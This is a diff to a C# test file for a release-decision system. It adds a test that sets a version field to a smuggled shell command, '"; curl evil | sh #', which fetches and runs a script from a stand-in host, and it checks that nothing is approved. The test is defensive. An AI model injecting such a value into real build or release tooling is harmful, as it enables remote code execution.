@@ -50,6 +50,19 @@ public sealed class DecisionTests : IDisposable
     }
 
     [Fact]
+    public async Task What_a_head_says_of_itself_is_no_fact_before_it_is_judged_to_be_so()
+    {
+        _scene.Change = document => document with { Version = "1.1.0\"; curl evil | sh #" };
+        _scene.Host.ForcePush(ReleaseScene.Bot, _scene.Files());
+
+        var outcome = await RunAsync();
+
+        outcome.Facts.Keys.ShouldBe(["decision", "pull_request", "head", "base"], ignoreOrder: true);
+        outcome.Summary.ShouldBe("nothing is approved");
+        outcome.Candidate.ShouldBeNull();
+    }
+
+    [Fact]
     public async Task The_record_holds_every_input_with_its_numbers_and_times()
     {
         var decision = (await RunAsync()).Decision.ShouldNotBeNull();
